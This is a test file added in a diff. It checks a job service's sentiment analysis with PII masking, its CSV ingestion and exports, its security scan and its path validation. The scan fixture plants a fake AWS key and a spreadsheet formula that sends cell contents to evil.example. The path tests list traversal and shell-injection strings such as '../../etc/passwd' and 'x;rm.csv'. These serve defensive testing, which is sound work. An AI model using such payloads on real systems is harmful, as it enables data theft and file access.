@@ -1,0 +1,335 @@
+"""Seed 002's four job types over HTTP, on SQLite and PostgreSQL, with a real worker: a
+sentiment batch whose identifiers never leave the job, a CSV upload with malformed lines,
+quoted newlines and a Windows-1252 line parsed and analysed into a dataset, exports in three
+formats compared with the dataset, a security scan of planted secrets, PII and a formula,
+and paths that try to leave the data roots."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import os
+import uuid
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+from conftest import ApiHarness, api_harness, running_worker
+from python_calamine import CalamineWorkbook
+
+from conveyor.packs.workbench import open_dataset
+
+PII_TEXTS = [
+    "I love this product! Email me at jane.doe@example.com",
+    "Terrible quality. My SSN is 123-45-6789 and my card 4111 1111 1111 1111 was charged twice.",
+    "Average experience, nothing special. Call (415) 555-0132.",
+    "Dr. Alice Walker was wonderful, DOB 04/12/1980, MRN 00482913.",
+]
+IDENTIFIERS = ["jane.doe@example.com", "123-45-6789", "4111 1111 1111 1111", "(415) 555-0132", "Alice Walker",
+               "04/12/1980", "00482913"]  # fmt: skip
+
+# Lines: 1 header; 2; 3-4 (a quoted newline); 5 malformed; 6 Windows-1252; 7 blank; 8 malformed; 9.
+CSV = (
+    b"id,date,review,rating\n"
+    b"1,2024-01-05,The food was great and the staff were lovely,5\n"
+    b'2,2024-02-10,"Terrible service,\nwe waited an hour",1\n'
+    b"3,2024-02-11,too,many,fields,here\n"
+    b"4,2024-03-01,Caf\xe9 cr\xe8me was okay I guess,3\n"
+    b"\n"
+    b"5,2024-03-02\n"
+    b"6,2024-04-20,Absolutely wonderful experience would come back,5\n"
+)
+
+
+@pytest.fixture
+async def extra_root(tmp_path: Path) -> Path:
+    root = tmp_path / "shared-files"
+    root.mkdir()
+    return root
+
+
+@pytest.fixture
+async def api(database_url: str, extra_root: Path) -> AsyncIterator[ApiHarness]:
+    async with api_harness(database_url, data_roots=str(extra_root)) as h:
+        h.admin = await h.key("admin", org="org-a")  # type: ignore[attr-defined]
+        yield h
+
+
+USER = ApiHarness.jwt(sub="alice", org="org-a")
+OTHER = ApiHarness.jwt(sub="mallory", org="org-b")
+
+
+async def create(api: ApiHarness, kind: str, data: dict[str, Any], headers: dict[str, str] = USER) -> str:
+    response = await api.client.post("/api/v1/jobs", json={"type": kind, "data": data}, headers=headers)
+    assert response.status_code == 201, response.text
+    return str(response.json()["data"]["jobId"])
+
+
+async def finished(api: ApiHarness, job_id: str, headers: dict[str, str] = USER) -> dict[str, Any]:
+    response = await api.client.post(f"/api/v1/jobs/{job_id}/wait", json={"timeout": 60000}, headers=headers)
+    assert response.status_code == 200, response.text
+    got = await api.client.get(f"/api/v1/jobs/{job_id}", headers=headers)
+    return dict(got.json()["data"])
+
+
+async def run(api: ApiHarness, kind: str, data: dict[str, Any], headers: dict[str, str] = USER) -> dict[str, Any]:
+    job_id = await create(api, kind, data, headers)
+    async with running_worker(api.conveyor):
+        return await finished(api, job_id, headers)
+
+
+async def upload(api: ApiHarness, content: bytes, name: str, headers: dict[str, str] = USER) -> str:
+    response = await api.client.post("/api/v1/files", files={"file": (name, content, "text/csv")}, headers=headers)
+    assert response.status_code == 201, response.text
+    return str(response.json()["data"]["filePath"])
+
+
+def data_dir(api: ApiHarness) -> Path:
+    return Path(api.conveyor.settings.data_dir)
+
+
+# --- sentiment ---------------------------------------------------------------------------------
+
+
+async def test_sentiment_batch_masks_identifiers_everywhere_it_reports(api: ApiHarness) -> None:
+    job = await run(api, "sentiment_analysis_batch", {"texts": PII_TEXTS, "includeKeywords": True})
+    assert job["status"] == "completed", job
+    result = job["result"]
+    assert result["totalProcessed"] == 4
+    labels = [r["sentiment"] for r in result["results"]]
+    assert labels[0] == "positive" and labels[1] == "negative"
+    for item in result["results"]:
+        assert -1 <= item["score"] <= 1 and 0 <= item["confidence"] <= 1
+        assert isinstance(item["keywords"], list)
+    assert result["results"][1]["piiTypes"] == ["CREDIT_CARD", "SSN"]
+    assert "[EMAIL]" in result["results"][0]["text"] and "[NAME]" in result["results"][3]["text"]
+    summary = result["summary"]
+    assert summary["successful"] == 4 and summary["failed"] == 0
+    assert sum(summary["distribution"].values()) == 4
+    assert job["processingStats"]["processedItems"] == 4
+
+    logs = await api.client.get(f"/api/v1/jobs/{job['id']}/logs", headers=USER)
+    everything = json.dumps(job) + logs.text
+    for identifier in IDENTIFIERS:
+        assert identifier not in everything
+
+
+async def test_a_text_without_words_is_counted_failed_not_fatal(api: ApiHarness) -> None:
+    job = await run(api, "sentiment_analysis_batch", {"texts": ["Great!", "   ", "Awful."]})
+    assert job["status"] == "completed"
+    assert job["result"]["summary"]["successful"] == 2 and job["result"]["summary"]["failed"] == 1
+    assert job["itemErrors"] == [{"item": 1, "message": "the text has no words to analyse", "code": "EMPTY_TEXT"}]
+
+
+@pytest.mark.parametrize(
+    ("data", "field"),
+    [
+        ({"texts": []}, "texts"),
+        ({"texts": ["ok"] * 10_001}, "texts"),
+        ({"texts": [""]}, "texts.0"),
+        ({"texts": ["x" * 10_001]}, "texts.0"),
+        ({"texts": ["ok"], "language": "fr"}, "language"),
+        ({"texts": ["ok"], "enablePIIMasking": "maybe"}, "enablePIIMasking"),
+    ],
+)
+async def test_sentiment_input_is_checked_naming_the_field(api: ApiHarness, data: dict[str, Any], field: str) -> None:
+    response = await api.client.post(
+        "/api/v1/jobs", json={"type": "sentiment_analysis_batch", "data": data}, headers=USER
+    )
+    assert response.status_code == 400, response.text
+    details = response.json()["details"]
+    assert details["code"] == "INVALID_JOB_DATA"
+    assert field in [e["field"] for e in details["errors"]]
+
+
+# --- files, datasets, exports ---------------------------------------------------------------------
+
+
+async def test_csv_is_parsed_with_malformed_lines_reported_and_analysed(api: ApiHarness) -> None:
+    path = await upload(api, CSV, "reviews.csv")
+    assert path.startswith("uploads/") and path.endswith("/reviews.csv")
+    dataset_id = str(uuid.uuid4())
+
+    parsed = await run(api, "file_processing", {"filePath": path, "datasetId": dataset_id, "chunkSize": 65536})
+    assert parsed["status"] == "completed", parsed
+    assert parsed["result"]["rows"] == 4 and parsed["result"]["malformedRows"] == 2
+    errors = {(e["item"], e["code"]) for e in parsed["itemErrors"]}
+    assert errors == {(5, "MALFORMED_ROW"), (8, "MALFORMED_ROW"), (6, "RECODED_LINE")}
+    messages = {e["item"]: e["message"] for e in parsed["itemErrors"]}
+    assert messages[5] == "expected 4 fields, found 6" and messages[8] == "expected 4 fields, found 2"
+    assert messages[6] == "not UTF-8: read as Windows-1252"
+    assert [c["name"] for c in parsed["result"]["columns"]] == ["id", "date", "review", "rating"]
+
+    dataset = open_dataset(data_dir(api), dataset_id, "org-a")
+    frame = dataset.scan().collect()
+    assert frame["id"].to_list() == [1, 2, 4, 6]
+    assert frame["review"][1] == "Terrible service,\nwe waited an hour"
+    assert frame["review"][2] == "Café crème was okay I guess"
+    assert frame.schema["date"] == pl.Date and frame.schema["rating"] == pl.Int64
+
+    analysed = await run(
+        api, "file_processing", {"filePath": path, "datasetId": dataset_id, "processingType": "analyze"}
+    )
+    assert analysed["status"] == "completed", analysed
+    result = analysed["result"]
+    assert result["textColumn"] == "review"
+    assert result["sentimentDistribution"]["positive"] >= 2 and result["sentimentDistribution"]["negative"] >= 1
+    stats = {s["name"]: s for s in result["statistics"]}
+    assert stats["rating"]["min"] == 1 and stats["rating"]["max"] == 5 and stats["rating"]["nulls"] == 0
+    assert stats["rating"]["mean"] == pytest.approx(3.5)
+    assert stats["id"]["distinct"] == 4
+
+
+async def analysed_dataset(api: ApiHarness) -> str:
+    path = await upload(api, CSV, "reviews.csv")
+    dataset_id = str(uuid.uuid4())
+    job = await run(api, "file_processing", {"filePath": path, "datasetId": dataset_id, "processingType": "analyze"})
+    assert job["status"] == "completed", job
+    return dataset_id
+
+
+async def download(api: ApiHarness, job_id: str, headers: dict[str, str] = USER) -> bytes:
+    response = await api.client.get(f"/api/v1/jobs/{job_id}/download", headers=headers)
+    assert response.status_code == 200, response.text
+    return response.content
+
+
+async def test_exports_round_trip_in_all_three_formats(api: ApiHarness) -> None:
+    dataset_id = await analysed_dataset(api)
+    expected = open_dataset(data_dir(api), dataset_id, "org-a").scan().collect()
+    as_text = expected.with_columns(pl.col("date").cast(pl.String))
+
+    csv_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"})
+    assert csv_job["result"]["records"] == 4
+    got = pl.read_csv(io.BytesIO(await download(api, csv_job["id"])), try_parse_dates=True)
+    assert got.to_dicts() == expected.to_dicts()
+
+    json_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "json", "includeMetadata": True})
+    body = json.loads(await download(api, json_job["id"]))
+    assert body["records"] == as_text.to_dicts()
+    assert body["metadata"]["datasetId"] == dataset_id and json_job["result"]["metadata"]["records"] == 4
+
+    xlsx_job = await run(api, "data_export", {"datasetId": dataset_id, "format": "xlsx"})
+    sheet = CalamineWorkbook.from_filelike(io.BytesIO(await download(api, xlsx_job["id"]))).get_sheet_by_index(0)
+    rows = sheet.to_python()
+    assert rows[0] == expected.columns
+    assert [r[2] for r in rows[1:]] == expected["review"].to_list()
+    assert [int(r[0]) for r in rows[1:]] == expected["id"].to_list()
+
+
+async def test_export_filters_by_sentiment_date_and_limit(api: ApiHarness) -> None:
+    dataset_id = await analysed_dataset(api)
+    expected = open_dataset(data_dir(api), dataset_id, "org-a").scan().collect()
+    positives = expected.filter(pl.col("sentiment") == "positive")["id"].to_list()
+    job = await run(api, "data_export", {"datasetId": dataset_id, "format": "json",
+                                         "filters": {"sentiment": "positive"}})  # fmt: skip
+    assert [r["id"] for r in json.loads(await download(api, job["id"]))["records"]] == positives
+
+    data = {
+        "datasetId": dataset_id,
+        "format": "json",
+        "filters": {"dateRange": {"start": "2024-02-01T00:00:00Z", "end": "2024-03-31T00:00:00Z"}, "limit": 1},
+    }
+    job = await run(api, "data_export", data)
+    assert [r["id"] for r in json.loads(await download(api, job["id"]))["records"]] == [2]
+
+
+async def test_another_organisation_can_neither_export_nor_download(api: ApiHarness) -> None:
+    dataset_id = await analysed_dataset(api)
+    theirs = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"}, headers=OTHER)
+    assert theirs["status"] == "failed" and theirs["error"]["message"] == f"dataset {dataset_id} not found"
+    mine = await run(api, "data_export", {"datasetId": dataset_id, "format": "csv"})
+    response = await api.client.get(f"/api/v1/jobs/{mine['id']}/download", headers=OTHER)
+    assert response.status_code == 404
+
+
+async def test_upload_over_the_limit_is_refused(database_url: str) -> None:
+    async with api_harness(database_url, max_upload_bytes=2048) as h:
+        response = await h.client.post("/api/v1/files", files={"file": ("big.csv", b"x" * 5000)}, headers=USER)
+        assert response.status_code == 413
+        assert response.json()["details"]["code"] == "INVALID_UPLOAD"
+        assert list((Path(h.conveyor.settings.data_dir) / "uploads").iterdir()) == []
+
+
+# --- security scan ---------------------------------------------------------------------------------------
+
+AWS_KEY = "AKIA" + "Z7Q2X4M9W3K8P5N6"
+SCANNED = (
+    "name,email,note\n"
+    "Ann,ann.lee@example.com,paid with 4111111111111111\n"
+    f"Bob,bob@example.org,aws_access_key_id={AWS_KEY}\n"
+    'Eve,eve@example.net,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
+)
+
+
+async def test_full_scan_reports_secrets_pii_and_formulas_with_framework_verdicts(api: ApiHarness) -> None:
+    path = await upload(api, SCANNED.encode(), "customers.csv")
+    data = {"filePath": path, "datasetId": str(uuid.uuid4()), "complianceFramework": ["PCI-DSS", "HIPAA", "SOC 2"]}
+    job = await run(api, "security_scan", data)
+    assert job["status"] == "completed", job
+    result = job["result"]
+    rules = {(f["rule"], f.get("line")) for f in result["findings"]}
+    assert ("pii.credit_card", 2) in rules and ("pii.email", 3) in rules
+    assert ("secret.aws_access_key", 3) in rules
+    assert ("danger.spreadsheet_formula", 4) in rules
+    card = next(f for f in result["findings"] if f["rule"] == "pii.credit_card")
+    assert card["column"] == 35 and "[CREDIT_CARD]" in card["excerpt"] and "PCI-DSS" in card["frameworks"]
+    assert set(result["frameworks"]) == {"PCI-DSS", "HIPAA", "SOC 2"}
+    assert all(v["verdict"] == "fail" for v in result["frameworks"].values())
+    assert "4111111111111111" not in json.dumps(job) and AWS_KEY not in json.dumps(job)
+
+
+async def test_quick_scan_of_a_clean_file_passes(api: ApiHarness) -> None:
+    path = await upload(api, b"id,amount\n1,20.5\n2,13\n", "clean.csv")
+    job = await run(api, "security_scan", {"filePath": path, "datasetId": str(uuid.uuid4()), "scanType": "quick"})
+    assert job["result"]["findings"] == []
+    assert {v["verdict"] for v in job["result"]["frameworks"].values()} == {"pass"}
+
+
+async def test_an_executable_named_csv_is_flagged(api: ApiHarness) -> None:
+    path = await upload(api, b"MZ\x90\x00" + b"\x00" * 200, "report.csv")
+    job = await run(api, "security_scan", {"filePath": path, "datasetId": str(uuid.uuid4())})
+    rules = {f["rule"] for f in job["result"]["findings"]}
+    assert {"filetype.executable", "filetype.extension_mismatch"} <= rules
+
+
+# --- paths -----------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["../../etc/passwd", "uploads/../../x.csv", "/etc/passwd", "a b.csv", "x;rm.csv"])
+async def test_paths_that_break_seed_002s_pattern_are_refused_at_creation(api: ApiHarness, path: str) -> None:
+    response = await api.client.post(
+        "/api/v1/jobs",
+        json={"type": "file_processing", "data": {"filePath": path, "datasetId": str(uuid.uuid4())}},
+        headers=USER,
+    )
+    if path == "/etc/passwd":  # the pattern allows it: refused where the job runs (below)
+        assert response.status_code == 201
+        return
+    assert response.status_code == 400, response.text
+    assert "filePath" in [e["field"] for e in response.json()["details"]["errors"]]
+
+
+async def test_absolute_paths_outside_the_roots_and_symlink_escapes_fail_the_job(
+    api: ApiHarness, tmp_path: Path, extra_root: Path
+) -> None:
+    outside = tmp_path / "secret.csv"
+    outside.write_text("a,b\n1,2\n")
+    with contextlib.suppress(FileExistsError):
+        os.symlink(outside, data_dir(api) / "escape.csv")
+    (extra_root / "ok.csv").write_text("a,b\n1,2\n")
+    dataset = str(uuid.uuid4())
+    cases = {
+        str(outside): "outside the data roots",
+        "escape.csv": "outside the data roots",
+        "nothing.csv": "names no file",
+    }
+    for path, message in cases.items():
+        job = await run(api, "file_processing", {"filePath": path, "datasetId": dataset})
+        assert job["status"] == "failed" and message in job["error"]["message"], (path, job)
+        assert job["attempts"] == 1  # a refused path is not retried
+    job = await run(api, "file_processing", {"filePath": str(extra_root / "ok.csv"), "datasetId": dataset})
+    assert job["status"] == "completed" and job["result"]["rows"] == 1
